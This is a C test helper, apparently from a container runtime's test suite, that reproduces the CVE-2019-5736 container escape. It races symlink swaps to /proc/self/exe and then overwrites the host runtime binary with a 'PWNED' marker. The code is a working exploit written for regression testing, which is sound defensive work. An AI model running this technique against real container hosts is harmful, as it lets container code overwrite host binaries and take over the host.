/*
 * The CVE-2019-5736 attack on a runtime that runs its host binary inside
 * the container until execve (tests/runtime_binary.rs). Runs in the
 * container, from a rootfs laid out by the test:
 *
 *   /x/true, /x/sh       busybox (copies): the programs the host execs
 *   /x/script            "#!/x/sh", a script whose interpreter is swapped
 *   /x/true-link, /x/sh-link  symlinks to /proc/self/exe
 *
 * usage: exe-attack SECONDS
 *
 * A child swaps /x/true <-> /x/true-link and /x/sh <-> /x/sh-link with
 * renameat2(RENAME_EXCHANGE) in a loop, so that an execve by path that
 * the runtime checked a moment before loads /proc/self/exe: the runtime's
 * own binary. The parent watches /proc/<pid>/exe of every process (and of
 * the pids about to be given out) for a
 * file that is not one of the container's own programs, keeps an O_PATH fd of
 * each one found, and keeps trying to reopen it for writing (which works
 * once no process runs it any more, unless the file is out of reach):
 * on success it writes "PWNED" over its first bytes.
 *
 * /x/held appears when it holds one. It stops at the deadline or when
 * /x/stop exists, and writes
 * /x/result: "captured=N overwritten=N lasterr=ERRNO-NAME".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define MAX_FOUND 64

static int exchange(const char *a, const char *b) {
    return syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void swapper(void) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (unsigned long i = 0;; i++) {
        exchange("/x/true", "/x/true-link");
        exchange("/x/sh", "/x/sh-link");
        if (i % 4096 == 0 && access("/x/stop", F_OK) == 0)
            _exit(0);
    }
}

struct found {
    int fd;
    dev_t dev;
    ino_t ino;
};

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    double deadline = now() + (argc > 1 ? atof(argv[1]) : 60);
    /* The container's own programs, before the swapping starts. */
    struct stat own[4];
    const char *own_paths[4] = {"/bin/busybox", "/proc/self/exe", "/x/true", "/x/sh"};
    for (int i = 0; i < 4; i++)
        if (stat(own_paths[i], &own[i]) != 0) {
            perror(own_paths[i]);
            return 1;
        }
    pid_t child = fork();
    if (child == 0)
        swapper();
    struct found found[MAX_FOUND];
    int nfound = 0, overwritten = 0, lasterr = 0;
    char path[64];
    int next = 2; /* the lowest pid not seen yet */
    for (unsigned long round = 0; now() < deadline; round++) {
        if (round % 64 == 0 && access("/x/stop", F_OK) == 0)
            break;
        /* A full scan now and then; in between, the pids the next
         * processes of the pid namespace will get (they are allocated in
         * order), which is much faster than reading /proc. */
        int pids[64], npids = 0;
        if (round % 256 == 0) {
            DIR *d = opendir("/proc");
            if (!d)
                break;
            struct dirent *e;
            while ((e = readdir(d)) && npids < 64) {
                int pid = atoi(e->d_name);
                if (pid > 0) {
                    pids[npids++] = pid;
                    if (pid >= next)
                        next = pid + 1;
                }
            }
            closedir(d);
        } else {
            /* The newest processes too: one waiting to exec (not yet
             * readable) is already in the listing. */
            for (int pid = next > 10 ? next - 8 : 2; npids < 24; pid++)
                pids[npids++] = pid;
        }
        for (int k = 0; k < npids && nfound < MAX_FOUND; k++) {
            snprintf(path, sizeof path, "/proc/%d/exe", pids[k]);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (pids[k] >= next)
                next = pids[k] + 1;
            struct stat st;
            int known = fstat(fd, &st) != 0;
            for (int i = 0; i < 4 && !known; i++)
                known = own[i].st_dev == st.st_dev && own[i].st_ino == st.st_ino;
            for (int i = 0; i < nfound && !known; i++)
                known = found[i].dev == st.st_dev && found[i].ino == st.st_ino;
            if (known || S_ISDIR(st.st_mode)) {
                close(fd);
                continue;
            }
            found[nfound++] = (struct found){fd, st.st_dev, st.st_ino};
            close(open("/x/held", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
        }
        for (int i = 0; i < nfound; i++) {
            if (found[i].fd < 0)
                continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", found[i].fd);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                lasterr = errno;
                continue;
            }
            if (pwrite(w, "PWNED", 5, 0) == 5)
                overwritten++;
            else
                lasterr = errno;
            close(w);
            close(found[i].fd);
            found[i].fd = -1;
        }
    }
    kill(child, SIGKILL);
    FILE *out = fopen("/x/result.tmp", "w");
    if (!out)
        return 1;
    fprintf(out, "captured=%d overwritten=%d lasterr=%s\n", nfound, overwritten,
            lasterr ? strerrorname_np(lasterr) : "none");
    fclose(out);
    rename("/x/result.tmp", "/x/result");
    /* Stay, as a container's PID 1, until the test deletes the container. */
    for (;;)
        pause();
}
